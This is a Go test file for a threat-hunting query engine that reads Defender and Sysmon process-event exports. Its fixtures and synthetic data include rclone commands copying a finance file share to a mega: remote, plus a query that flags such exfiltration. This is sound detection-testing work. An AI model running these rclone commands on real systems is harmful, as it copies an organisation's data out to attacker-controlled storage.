package detect

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"runtime/metrics"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"offhunt/detect/data"
	"offhunt/detect/output"
)

func memInput(name, content string) Input {
	return Input{Name: name, Size: int64(len(content)), Open: func() (io.ReadCloser, error) {
		return io.NopCloser(strings.NewReader(content)), nil
	}}
}

const day1 = "Timestamp,DeviceName,FileName,ProcessCommandLine,ProcessId\n" +
	"2025-09-05T22:00:00Z,ws1,cmd.exe,cmd /c a,1\n" +
	"2025-09-05T23:00:00Z,ws1,rclone.exe,\"rclone copy a mega:x\",2\n" +
	"2025-09-06T00:00:00Z,ws1,notepad.exe,notepad,oops\n"

// day2 overlaps day1 by two events, in another column order and quoting.
const day2 = "DeviceName,Timestamp,ProcessId,FileName,ProcessCommandLine\n" +
	"ws1,2025-09-05T23:00:00Z,2,\"rclone.exe\",rclone copy a mega:x\n" +
	"ws1,2025-09-06T00:00:00Z,oops,notepad.exe,notepad\n" +
	"ws1,2025-09-06T01:00:00Z,3,svchost.exe,svchost -k x\n"

func sha(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// TestInputReports checks the reports a query returns: one per input,
// with format, schema, rows, digest, time range and bad rows, complete
// even when the query stopped early, and counted once however often the
// query read an input.
func TestInputReports(t *testing.T) {
	ndjson := `{"Timestamp":"2025-09-07T00:00:00Z","DeviceName":"ws2","FileName":"a.exe","ProcessCommandLine":"a"}` + "\n" +
		`{"Timestamp":"2025-09-07T01:00:00Z","DeviceName":"ws2","FileName":"b.exe","ProcessCommandLine":` + "\n"
	inputs := []Input{memInput("day1.csv", day1), memInput("x.ndjson", ndjson)}
	for _, q := range []string{
		"DeviceProcessEvents | take 1",
		"DeviceProcessEvents | join kind=inner (DeviceProcessEvents) on DeviceName | count",
		"print 1",
	} {
		t.Run(q, func(t *testing.T) {
			res, err := Query(context.Background(), q, inputs, Options{Now: "2025-09-08T00:00:00Z"})
			if err != nil {
				t.Fatal(err)
			}
			if len(res.Inputs) != 2 {
				t.Fatalf("inputs %+v", res.Inputs)
			}
			a, b := res.Inputs[0], res.Inputs[1]
			if a.Name != "day1.csv" || a.Format != "csv" || a.Schema != "DeviceProcessEvents" || a.Rows != 3 || a.SHA256 != sha(day1) ||
				a.First != "2025-09-05T22:00:00Z" || a.Last != "2025-09-06T00:00:00Z" || a.BadRows != 1 ||
				len(a.BadRowSamples) != 1 || a.BadRowSamples[0].Line != 4 || !strings.Contains(a.BadRowSamples[0].Reason, `ProcessId: "oops" is not a long`) {
				t.Errorf("day1 report %+v", a)
			}
			if b.Format != "ndjson" || b.Rows != 1 || b.BadRows != 1 || b.BadRowSamples[0].Line != 2 || b.SHA256 != sha(ndjson) {
				t.Errorf("ndjson report %+v", b)
			}
		})
	}
}

// TestDuplicates checks that overlapping exports count their shared events
// (whatever the column order and quoting), and that Dedupe drops them.
func TestDuplicates(t *testing.T) {
	inputs := []Input{memInput("day1.csv", day1), memInput("day2.csv", day2)}
	for _, dedupe := range []bool{false, true} {
		res, err := Query(context.Background(), "DeviceProcessEvents | summarize n = count(), files = make_set(FileName)", inputs, Options{Dedupe: dedupe})
		if err != nil {
			t.Fatal(err)
		}
		n := res.Results[0].Table.Rows[0][0].I
		if want := map[bool]int64{false: 6, true: 4}[dedupe]; n != want {
			t.Errorf("dedupe %v: %d rows, want %d", dedupe, n, want)
		}
		if d1, d2 := res.Inputs[0].Duplicates, res.Inputs[1].Duplicates; d1 != 0 || d2 != 2 {
			t.Errorf("dedupe %v: duplicates %d, %d; want 0, 2", dedupe, d1, d2)
		}
	}
	// A query that never reads the table still gets the count.
	res, err := Query(context.Background(), "print 1", inputs, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Inputs[1].Duplicates != 2 {
		t.Errorf("duplicates %+v", res.Inputs[1])
	}
	// Scanning twice drops the same rows (by line, the second time).
	res, err = Query(context.Background(), "let a = DeviceProcessEvents | count; let b = DeviceProcessEvents | count; union a, b", inputs, Options{Dedupe: true})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range res.Results[0].Table.Rows {
		if r[0].I != 4 {
			t.Errorf("a scan with dedupe gave %d rows", r[0].I)
		}
	}
}

// TestMappedInputsUnion checks that a Sysmon export and a Defender export
// make one DeviceProcessEvents table, and that the Sysmon input is also
// its stem with every event.
func TestMappedInputsUnion(t *testing.T) {
	sysmon := `{"EventID": 1, "Provider": "Microsoft-Windows-Sysmon", "TimeCreated": "2025-09-05T21:00:00Z", "Computer": "ws9", "Image": "C:\\x\\rclone.exe", "CommandLine": "rclone.exe copy c: mega:y", "ProcessId": "9"}` + "\n" +
		`{"EventID": 5, "Provider": "Microsoft-Windows-Sysmon", "TimeCreated": "2025-09-05T21:01:00Z", "Computer": "ws9", "Image": "C:\\x\\rclone.exe", "ProcessId": "9"}` + "\n"
	inputs := []Input{memInput("day1.csv", day1), memInput("sysmon.ndjson", sysmon)}
	res, err := Query(context.Background(), `DeviceProcessEvents | where FileName =~ "rclone.exe" | project DeviceName, ProcessCommandLine, TimeGenerated | order by DeviceName asc`, inputs, Options{})
	if err != nil {
		t.Fatal(err)
	}
	got := res.Results[0].Table.String()
	want := "DeviceName | ProcessCommandLine | TimeGenerated\nws1 | rclone copy a mega:x | 2025-09-05T23:00:00.0000000Z\nws9 | rclone.exe copy c: mega:y | 2025-09-05T21:00:00.0000000Z\n"
	if got != want {
		t.Errorf("result\n%s\nwant\n%s", got, want)
	}
	res, err = Query(context.Background(), `['sysmon'] | summarize n = count()`, inputs, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if n := res.Results[0].Table.Rows[0][0].I; n != 2 {
		t.Errorf("the stem has %d events, want 2", n)
	}
	if r := res.Inputs[1]; r.Schema != "DeviceProcessEvents" || r.Format != "ndjson, windows events" || len(r.Notices) != 1 {
		t.Errorf("report %+v", r)
	}
}

// TestUnreadableInput checks that an input none of whose records can be
// read is an error, never an empty result that looks clean.
func TestUnreadableInput(t *testing.T) {
	for _, content := range []string{"{\"a\":\n{\"b\":\n", "\x00\x01\x02", "", "[]"} {
		_, err := Query(context.Background(), "print 1", []Input{memInput("bad.json", content)}, Options{})
		if err == nil || !strings.HasPrefix(err.Error(), "bad.json: ") {
			t.Errorf("%q: error %v", content, err)
		}
	}
}

func TestBadRowSummary(t *testing.T) {
	if s := BadRowSummary([]InputReport{{Name: "a.csv"}}); s != "" {
		t.Errorf("no bad rows: %q", s)
	}
	s := BadRowSummary([]InputReport{
		{Name: "a.csv", BadRows: 2, BadRowSamples: []BadRow{{Line: 5, Reason: "3 fields where the header has 2"}}},
		{Name: "b.csv"},
		{Name: "c.ndjson", BadRows: 1, BadRowSamples: []BadRow{{Line: 9, Reason: "invalid JSON"}}},
	})
	want := "3 rows could not be read as they are; a.csv: 2 (first at line 5: 3 fields where the header has 2); c.ndjson: 1 (first at line 9: invalid JSON)"
	if s != want || strings.Contains(s, "\n") {
		t.Errorf("summary\n got %q\nwant %q", s, want)
	}
}

// rowReader synthesises a DeviceProcessEvents export of about size bytes
// as it is read, so that a test can stream a gigabyte without writing it.
// Every rcloneEvery-th row is an rclone exfiltration.
type rowReader struct {
	size, n  int64
	row      int64
	pending  []byte
	header   bool
	scratch  []byte
	rcloneAt int64
}

const rcloneEvery = 100_000

func newRowReader(size int64) *rowReader { return &rowReader{size: size} }

func (r *rowReader) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		if len(r.pending) == 0 {
			if r.n >= r.size {
				break
			}
			r.pending = r.next()
		}
		k := copy(p[n:], r.pending)
		r.pending = r.pending[k:]
		n += k
		r.n += int64(k)
	}
	if n == 0 {
		return 0, io.EOF
	}
	return n, nil
}

var base = time.Date(2025, 9, 1, 0, 0, 0, 0, time.UTC)

func (r *rowReader) next() []byte {
	b := r.scratch[:0]
	if !r.header {
		r.header = true
		b = append(b, "Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,FileSize,ProcessId,ProcessCommandLine,"+
			"AccountDomain,AccountName,InitiatingProcessFileName,InitiatingProcessCommandLine,InitiatingProcessId,ReportId\n"...)
	}
	i := r.row
	r.row++
	b = base.Add(time.Duration(i)*time.Second).AppendFormat(b, "2006-01-02T15:04:05.0000000Z")
	b = append(b, ',')
	b = appendHex(b, uint64(i)*2654435761, 40)
	b = append(b, ",ws-"...)
	b = strconv.AppendInt(b, 1000+i%500, 10)
	b = append(b, ".corp.example,ProcessCreated,"...)
	rclone := i%rcloneEvery == rcloneEvery/2
	if rclone {
		b = append(b, `rclone.exe,C:\Users\Public\rclone.exe,`...)
	} else {
		b = append(b, `svchost.exe,C:\Windows\System32\svchost.exe,`...)
	}
	b = appendHex(b, uint64(i)*11400714819323198485, 64)
	b = append(b, ',')
	b = strconv.AppendInt(b, i%1000000, 10)
	b = append(b, ',')
	b = strconv.AppendInt(b, i%65536, 10)
	b = append(b, ',')
	if rclone {
		b = append(b, `"rclone.exe copy ""\\fs01\finance"" mega:backup -q --ignore-existing --auto-confirm --transfers 12"`...)
	} else {
		b = append(b, `"svchost.exe -k netsvcs -p -s Schedule ""quoted"", and a comma"`...)
	}
	b = append(b, ",corp,user"...)
	b = strconv.AppendInt(b, i%300, 10)
	b = append(b, ",services.exe,C:\\Windows\\system32\\services.exe,"...)
	b = strconv.AppendInt(b, i%4096, 10)
	b = append(b, ',')
	b = strconv.AppendInt(b, i, 10)
	b = append(b, '\n')
	r.scratch = b
	return b
}

// appendHex appends x in hexadecimal, repeated to width digits.
func appendHex(b []byte, x uint64, width int) []byte {
	const digits = "0123456789abcdef"
	for k := 0; k < width; k++ {
		b = append(b, digits[(x>>(4*(k%16)))&15])
	}
	return b
}

// TestStreamGigabyte streams a generated 1 GB export through a where-only
// query and checks that the Go heap stays under 64 MB: readers hold a
// chunk and a row, never the input.
func TestStreamGigabyte(t *testing.T) {
	const size = 1 << 30 // about 10 s on two cores
	in := Input{Name: "big.csv", Size: size, Open: func() (io.ReadCloser, error) { return io.NopCloser(newRowReader(size)), nil }}
	// The heap is sampled with runtime/metrics, which does not stop the
	// world as ReadMemStats does.
	var peak atomic.Uint64
	done := make(chan struct{})
	go func() {
		sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		for {
			select {
			case <-done:
				return
			case <-time.After(5 * time.Millisecond):
			}
			metrics.Read(sample)
			if v := sample[0].Value.Uint64(); v > peak.Load() {
				peak.Store(v)
			}
		}
	}()
	var progressCalls atomic.Int64
	start := time.Now()
	res, err := Query(context.Background(), `DeviceProcessEvents | where ProcessCommandLine has "mega:"`, []Input{in},
		Options{Progress: func(Progress) { progressCalls.Add(1) }})
	close(done)
	if err != nil {
		t.Fatal(err)
	}
	rows := res.Inputs[0].Rows
	hits := len(res.Results[0].Table.Rows)
	if want := int((rows + rcloneEvery/2) / rcloneEvery); hits != want || rows < 1_000_000 {
		t.Errorf("%d hits in %d rows, want %d", hits, rows, want)
	}
	if res.Inputs[0].BadRows != 0 {
		t.Errorf("bad rows: %+v", res.Inputs[0].BadRowSamples)
	}
	const limit = 64 << 20
	if p := peak.Load(); p >= limit {
		t.Errorf("peak heap %d MB, want under %d MB", p>>20, limit>>20)
	}
	if progressCalls.Load() < 2 {
		t.Errorf("progress called %d times", progressCalls.Load())
	}
	t.Logf("1 GB, %d rows in %v (%.0f MB/s), peak heap %d MB", rows, time.Since(start).Round(time.Millisecond),
		float64(size)/1e6/time.Since(start).Seconds(), peak.Load()>>20)
}

// TestCancel checks that a cancelled context stops a scan promptly.
func TestCancel(t *testing.T) {
	in := Input{Name: "big.csv", Open: func() (io.ReadCloser, error) { return io.NopCloser(newRowReader(1 << 30)), nil }}
	ctx, cancel := context.WithCancel(context.Background())
	go func() { time.Sleep(100 * time.Millisecond); cancel() }()
	start := time.Now()
	_, err := Query(ctx, "DeviceProcessEvents | count", []Input{in}, Options{})
	if !errors.Is(err, context.Canceled) {
		t.Errorf("error %v", err)
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("stopped after %v", d)
	}
}

// TestProgress checks the progress reports: bytes of the input, its size,
// rows.
func TestProgress(t *testing.T) {
	content := bytes.Repeat([]byte("x\n"), 1<<20)
	content = append([]byte("a\n"), content...)
	in := Input{Name: "p.csv", Size: int64(len(content)), Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(content)), nil }}
	var last Progress
	_, err := Query(context.Background(), "p | count", []Input{in}, Options{Progress: func(p Progress) { last = p }})
	if err != nil {
		t.Fatal(err)
	}
	if last.Input != "p.csv" || last.BytesRead != int64(len(content)) || last.Size != int64(len(content)) || last.Rows != 1<<20 {
		t.Errorf("last progress %+v", last)
	}
}

func TestProvenanceColumnNames(t *testing.T) {
	// The readers' provenance columns are the ones findings read.
	res, err := Query(context.Background(), "DeviceProcessEvents | getschema", []Input{memInput("d.csv", day1)}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	_ = res
	var names []string
	srcs, _, err := buildEnv([]Input{memInput("d.csv", day1)}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range srcs.Tables[0].Columns() {
		names = append(names, c.Name)
	}
	if n := len(names); names[n-2] != InputColumn || names[n-1] != LineColumn {
		t.Errorf("columns %v", names)
	}
	_ = data.Null
	_ = strconv.Itoa
}

// TestResultsLoadBack checks that a query result written as JSON (the Log
// Analytics shape of `offhunt query --format json`) reads back as a table
// with the same columns, types and values.
func TestResultsLoadBack(t *testing.T) {
	res, err := Query(context.Background(), `DeviceProcessEvents | project Timestamp, DeviceName, FileName, ProcessCommandLine, ProcessId, AdditionalFields = bag_pack("n", ProcessId)`,
		[]Input{fileInput("testdata/sample_dpe.csv")}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := output.WriteJSON(&buf, []*data.Table{res.Results[0].Table}); err != nil {
		t.Fatal(err)
	}
	back, err := Query(context.Background(), "DeviceProcessEvents", []Input{memInput("result.json", buf.String())}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	a, b := res.Results[0].Table, back.Results[0].Table
	if len(a.Rows) != len(b.Rows) || len(a.Rows) == 0 {
		t.Fatalf("%d rows back, want %d", len(b.Rows), len(a.Rows))
	}
	for i, c := range a.Columns {
		j := data.ColumnIndex(b.Columns, c.Name)
		if j < 0 || b.Columns[j].Type != c.Type {
			t.Fatalf("column %v back as %v", c, b.Columns)
		}
		for r := range a.Rows {
			if !data.Equal(a.Rows[r][i], b.Rows[r][j]) {
				t.Errorf("row %d %s: %v back as %v", r, c.Name, a.Rows[r][i], b.Rows[r][j])
			}
		}
	}
	if back.Inputs[0].Format != "log analytics api json" || back.Inputs[0].BadRows != 0 {
		t.Errorf("report %+v", back.Inputs[0])
	}
}
